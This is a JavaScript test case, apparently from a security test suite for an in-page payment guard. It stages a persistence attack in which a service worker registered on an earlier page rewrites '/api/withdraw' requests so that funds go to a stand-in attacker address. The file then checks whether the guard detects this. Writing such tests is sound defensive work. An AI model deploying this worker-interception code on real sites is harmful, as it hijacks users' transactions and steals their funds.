// E13: a service worker of an earlier visit stands between the page and its server, and rewrites what the guard has judged.
import { names } from './logs.mjs';

export default {
  id: 'E13',
  title: 'a service worker of an earlier visit rewrites requests',
  source: 'persistence by the site own worker',
  level: 'detected',
  why: 'what a worker sends happens behind every script of the page; a worker that the policy does not list is told, and with the companion as the only worker there is none',
  leaves: true,
  engines: { webkit: 'the page that such a worker controls from its start runs no script in this build' },
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),
  page: {
    routes: {
      // A page of the site without the guard, as all were before it was adopted.
      '/earlier.html': () => ({
        text: `<!doctype html><script>navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready)
          .then(() => (location.href = '/run/page'))</script>`,
      }),
      '/sw.js': (a) => ({
        type: 'text/javascript',
        text: `self.addEventListener('install', () => self.skipWaiting());
          self.addEventListener('fetch', (event) => {
            if (event.request.url.includes('/api/withdraw'))
              event.respondWith(fetch(event.request.url, { method: 'POST', body: '{"to":"${a.EVIL}"}' }));
          });`,
      }),
    },
  },

  async attack() {
    if (sessionStorage.came) return;
    sessionStorage.came = 1;
    window.leaving = true;
    if (document.readyState !== 'complete') await new Promise((resolve) => addEventListener('load', resolve));
    setTimeout(() => (location.href = '/earlier.html'), 50);
  },

  async action(a) {
    if (window.leaving) return new Promise(() => {});
    return (await fetch('/api/withdraw', { method: 'POST', body: JSON.stringify({ to: a.GOOD }) })).status;
  },

  stolen: ({ http, a }) => http.some(({ body }) => names(body, a.EVIL)),
  arrived: ({ http, a }) => http.some(({ body }) => names(body, a.GOOD)),
  violation: { surface: 'service-worker', grade: 'tamper' },
};
